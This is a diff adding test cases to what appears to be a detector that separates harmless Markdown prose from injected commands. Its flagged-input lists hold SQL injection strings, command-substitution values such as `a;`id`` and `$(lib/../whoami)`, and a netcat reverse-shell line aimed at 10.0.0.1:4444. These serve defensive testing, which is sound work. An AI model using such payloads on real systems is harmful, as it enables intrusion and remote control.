@@ -50,6 +50,20 @@ describe("Markdown prose at the default level", () => {
       "- Require Node.js `>= 18`\n- Fail early when the config file is missing"
     ], ["admin`-- ", "1` or 1=1 -- ", "` or 1=1 -- `", "name` desc, (select sleep(5)) #", "from `information_schema`.tables limit"]))
 
+  it.effect("a code span after an abbreviation or before a verb that names a command is inline code; a substitution after a command still counts", () =>
+    expectVerdicts([
+      "Flags are combined: a group like `-abc` expand into three flags. So `-vvv` raises the log level.",
+      "Send a signal to report progress. Eg. `rsync` will print how many files it has copied so far.",
+      "Most settings have defaults. Note: `timeout` install scripts read it from the environment."
+    ], ["`id`", "a;`id`", "echo `id`", "echo. `id` is here now", "name=`whoami`", "foo `id` bar"]))
+
+  it.effect("a scoped package or a relative path ending in a command's name is no command; a system or home path still is", () =>
+    expectVerdicts([
+      "@acme/uname\r\n===========\r\nMachine names for the browser.",
+      "Install @scope/base64 -D and import it from lib/base64.",
+      "src/whoami --json prints the signed-in account"
+    ], [";bin/id", "| usr/bin/whoami", ";./whoami", ";~/whoami", "$(lib/../whoami)", "nc -e /bin/sh 10.0.0.1 4444"]))
+
   it.effect("a Markdown link naming a command passes; a command after its target still counts", () =>
     expectVerdicts([
       "This package instruments the [`redis`](https://www.npmjs.com/package/redis) client.",
